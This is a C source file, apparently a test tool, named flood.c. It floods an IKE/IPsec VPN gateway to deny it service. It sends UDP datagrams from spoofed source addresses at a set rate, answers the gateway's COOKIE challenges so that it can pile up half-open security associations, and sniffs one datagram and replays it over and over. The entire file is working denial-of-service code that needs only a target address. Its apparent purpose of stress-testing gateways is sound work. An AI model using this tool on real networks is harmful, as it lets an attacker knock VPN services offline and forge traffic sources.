/* clang-format off */
/*
 * What somebody does who wants a gateway to serve nobody: datagrams at a rate, for some seconds,
 * from where he likes. It sends within the network namespace it runs in, and stops by itself.
 * Prints how many went out.
 *
 *   flood send FILE PREFIX/BITS ADDRESS PORT AT COUNT RATE SECONDS
 *       what FILE holds, each time with COUNT other bytes from AT on, from any address of the prefix
 *   flood cookies FILE ADDRESS PORT SOCKETS RATE SECONDS [FILE]
 *       IKE_SA_INIT requests that are sent again with the COOKIE that the gateway asks for (RFC 7296
 *       section 2.6); with what the second file holds, most go on with that, for any of the SAs that
 *       are half open by now
 *   flood replay ADDRESS PORT RATE SECONDS
 *       the first datagram that passes by on the way there, again and again, as from its sender
 */
/* clang-format on */
#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MOST_BYTES   4096u
#define MOST_SOCKETS 256
#define IKE_HEADER   28u
#define NOTIFY       41
#define COOKIE       16390
#define IKE_SA_INIT  34
#define SA_PAYLOAD   33
#define RESPONSE     0x20
#define MOST_SAS     1024u
#define HEAD_BYTES   (sizeof(struct iphdr) + sizeof(struct udphdr))

static uint8_t text[MOST_BYTES];
static size_t text_bytes;
static uint64_t state = 88172645463325252u;

static uint64_t any(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int fail(const char *what)
{
	perror(what);
	return 1;
}

static int load_into(const char *path, uint8_t *bytes, size_t *count)
{
	FILE *file = fopen(path, "rb");

	if (!file)
		return fail(path);
	*count = fread(bytes, 1, MOST_BYTES, file);
	fclose(file);
	return 0;
}

static int load(const char *path)
{
	return load_into(path, text, &text_bytes);
}

/* How many may be out by now; waits a little where that are none more. */
static long allowance(double began, double rate, long sent)
{
	static const struct timespec moment = {.tv_nsec = 200000};
	const long due = (long)((now() - began) * rate) - sent;

	if (due <= 0)
		nanosleep(&moment, NULL);
	return due > 256 ? 256 : due;
}

static void head(
	uint8_t *packet, uint32_t from, uint32_t to, uint16_t source, uint16_t port, size_t bytes)
{
	struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
	struct udphdr udp = {.source = htons(source), .dest = htons(port)};

	ip.tot_len = htons((uint16_t)(HEAD_BYTES + bytes));
	ip.saddr = from;
	ip.daddr = to;
	udp.len = htons((uint16_t)(sizeof(udp) + bytes));
	memcpy(packet, &ip, sizeof(ip));
	memcpy(packet + sizeof(ip), &udp, sizeof(udp));
}

static int out(void)
{
	return socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
}

static long push(int fd, const uint8_t *packet, size_t bytes, uint32_t to)
{
	const struct sockaddr_in name = {.sin_family = AF_INET, .sin_addr.s_addr = to};

	return sendto(fd, packet, bytes, MSG_DONTWAIT, (const struct sockaddr *)&name,
		       sizeof(name)) > 0;
}

static int send_many(char **words)
{
	static uint8_t packet[HEAD_BYTES + MOST_BYTES];
	char *const slash = strchr(words[1], '/');
	const uint16_t port = (uint16_t)atoi(words[3]);
	const size_t at = (size_t)atoi(words[4]), count = (size_t)atoi(words[5]);
	const double rate = atof(words[6]), seconds = atof(words[7]), began = now();
	const int fd = out(), bits = slash ? atoi(slash + 1) : 32;
	struct in_addr base, to;
	long sent = 0;

	if (fd < 0 || load(words[0]) != 0 || at + count > text_bytes)
		return fail("raw socket, or file");
	if (slash)
		*slash = 0;
	if (inet_pton(AF_INET, words[1], &base) != 1 || inet_pton(AF_INET, words[2], &to) != 1)
		return fail("address");
	while (now() < began + seconds) {
		for (long due = allowance(began, rate, sent); due > 0; due--) {
			const uint32_t host = bits < 32 ? (uint32_t)any() >> bits : 0;

			for (size_t i = 0; i < count; i++)
				text[at + i] = (uint8_t)(any() >> 24);
			head(packet, htonl(ntohl(base.s_addr) | host), to.s_addr,
				(uint16_t)(1024 + any() % 60000), port, text_bytes);
			memcpy(packet + HEAD_BYTES, text, text_bytes);
			sent += push(fd, packet, HEAD_BYTES + text_bytes, to.s_addr);
		}
	}
	printf("%ld\n", sent);
	return 0;
}

/* The same request behind the cookie that was asked for; false: it was not. */
static int with_cookie(int fd, const uint8_t *answer, size_t bytes)
{
	static uint8_t again[2 * MOST_BYTES];
	const uint8_t *const notify = answer + IKE_HEADER;
	const size_t length = bytes > IKE_HEADER + 8 ? (size_t)(notify[2] << 8 | notify[3]) : 0;

	if (length < 8 || IKE_HEADER + length > bytes || answer[16] != NOTIFY ||
		(notify[6] << 8 | notify[7]) != COOKIE)
		return 0;
	memcpy(again, text, IKE_HEADER);
	memcpy(again, answer, 8);
	memcpy(again + IKE_HEADER, notify, length);
	memcpy(again + IKE_HEADER + length, text + IKE_HEADER, text_bytes - IKE_HEADER);
	again[IKE_HEADER] = text[16];
	again[16] = NOTIFY;
	again[26] = (uint8_t)((text_bytes + length) >> 8);
	again[27] = (uint8_t)(text_bytes + length);
	return send(fd, again, text_bytes + length, MSG_DONTWAIT) > 0;
}

/* SAs that are half open: their two SPIs, and by which socket; newer ones take the place of older.
 */
static struct {
	uint8_t spis[16];
	int fd;
} half_open[MOST_SAS];
static size_t half_open_count;
/* What goes to them. */
static uint8_t inside[MOST_BYTES];
static size_t inside_bytes;

static void note_half_open(int fd, const uint8_t *answer, size_t bytes)
{
	if (bytes < IKE_HEADER || answer[16] != SA_PAYLOAD || answer[18] != IKE_SA_INIT ||
		!(answer[19] & RESPONSE))
		return;
	memcpy(half_open[half_open_count % MOST_SAS].spis, answer, 16);
	half_open[half_open_count++ % MOST_SAS].fd = fd;
}

static int send_inside(void)
{
	const size_t known = half_open_count < MOST_SAS ? half_open_count : MOST_SAS;
	const size_t which = any() % known;

	memcpy(inside, half_open[which].spis, 16);
	return send(half_open[which].fd, inside, inside_bytes, MSG_DONTWAIT) > 0;
}

static int send_init(int fd)
{
	const uint64_t spi = any();

	memcpy(text, &spi, sizeof(spi));
	return send(fd, text, text_bytes, MSG_DONTWAIT) > 0;
}

static int cookies(char **words)
{
	static struct pollfd ready[MOST_SOCKETS];
	const int count = atoi(words[3]) < MOST_SOCKETS ? atoi(words[3]) : MOST_SOCKETS;
	const double rate = atof(words[4]), seconds = atof(words[5]), began = now();
	struct sockaddr_in to = {
		.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(words[2]))};
	long sent = 0, proven = 0;

	if (load(words[0]) != 0 || inet_pton(AF_INET, words[1], &to.sin_addr) != 1)
		return 1;
	if (words[6] && load_into(words[6], inside, &inside_bytes) != 0)
		return 1;
	for (int i = 0; i < count; i++) {
		ready[i] = (struct pollfd){.fd = socket(AF_INET, SOCK_DGRAM, 0), .events = POLLIN};
		if (connect(ready[i].fd, (const struct sockaddr *)&to, sizeof(to)) < 0)
			return fail("connect");
	}
	while (now() < began + seconds) {
		uint8_t answer[MOST_BYTES];

		for (long due = allowance(began, rate, sent); due > 0; due--) {
			const bool goes_on = inside_bytes && half_open_count && any() % 32;

			sent += goes_on ? send_inside() : send_init(ready[sent % count].fd);
		}
		if (poll(ready, (nfds_t)count, 0) <= 0)
			continue;
		for (int i = 0; i < count; i++)
			for (ssize_t n;
				(n = recv(ready[i].fd, answer, sizeof(answer), MSG_DONTWAIT)) > 0;)
				if (with_cookie(ready[i].fd, answer, (size_t)n))
					proven++;
				else
					note_half_open(ready[i].fd, answer, (size_t)n);
	}
	printf("%ld %ld\n", sent, proven);
	return 0;
}

static int replay(char **words)
{
	static uint8_t packet[HEAD_BYTES + MOST_BYTES];
	const int taps = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP)), fd = out();
	const uint16_t port = htons((uint16_t)atoi(words[1]));
	const double rate = atof(words[2]), seconds = atof(words[3]);
	double began = now();
	struct in_addr to;
	ssize_t bytes = 0;
	long sent = 0;

	if (taps < 0 || fd < 0 || inet_pton(AF_INET, words[0], &to) != 1)
		return fail("socket");
	for (bool found = false; !found && now() < began + 10;) {
		bytes = recv(taps, packet, sizeof(packet), 0);
		found = bytes > (ssize_t)HEAD_BYTES + 8 && packet[0] == 0x45 &&
			packet[9] == IPPROTO_UDP && memcmp(packet + 16, &to, 4) == 0 &&
			memcmp(packet + 22, &port, 2) == 0 && memcmp(packet + 28, "\0\0\0", 4) != 0;
	}
	close(taps);
	for (began = now(); now() < began + seconds;)
		for (long due = allowance(began, rate, sent); due > 0; due--)
			sent += push(fd, packet, (size_t)bytes, to.s_addr);
	printf("%ld\n", sent);
	return 0;
}

int main(int count, char **words)
{
	if (count == 10 && strcmp(words[1], "send") == 0)
		return send_many(words + 2);
	if ((count == 8 || count == 9) && strcmp(words[1], "cookies") == 0)
		return cookies(words + 2);
	if (count == 6 && strcmp(words[1], "replay") == 0)
		return replay(words + 2);
	fprintf(stderr, "flood send|cookies|replay …: see the head of flood.c\n");
	return 2;
}
